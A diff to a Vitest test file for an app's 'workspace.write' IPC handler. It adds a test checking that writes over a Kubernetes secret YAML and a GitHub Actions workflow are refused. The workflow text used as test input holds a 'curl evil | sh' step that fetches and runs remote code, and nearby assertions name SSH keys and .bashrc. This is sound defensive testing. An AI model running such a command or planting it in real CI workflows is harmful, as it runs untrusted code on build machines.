@@ -3,7 +3,7 @@
 // .yaml/.yml regular files (not links to other files) are ever read or written.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { mkdirSync, readFileSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { channelOf } from '../../shared/api/channels';
 import type { MethodName } from '../../shared/api/contract';
 import { bindIpc } from '../../main/app/ipc';
@@ -93,6 +93,17 @@ describe('workspace.write', () => {
     expect(readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8')).toBe(before);
     expect(existsSync(join(home, '.ssh', 'authorized_keys'))).toBe(false);
     expect(existsSync(join(home, '.bashrc'))).toBe(false);
+  });
+
+  it('writes only workspaces, and never over YAML that is not one (a CI workflow, a secret)', async () => {
+    const k8s = join(home, 'sites', 'k8s-secret.yaml');
+    const before = readFileSync(k8s, 'utf8');
+    expectRefused(await call('workspace.write', { path: k8s, text: 'lbdesk: 1\nname: over\n' }), /is not an lbdesk workspace/);
+    expect(readFileSync(k8s, 'utf8')).toBe(before);
+    const workflow = join(tmp.dir, 'repo', '.github', 'workflows', 'ci.yml');
+    mkdirSync(dirname(workflow), { recursive: true });
+    expectRefused(await call('workspace.write', { path: workflow, text: 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n' }), /is not an lbdesk workspace/);
+    expect(existsSync(workflow)).toBe(false);
   });
 
   it('writes a new absolute workspace file', async () => {
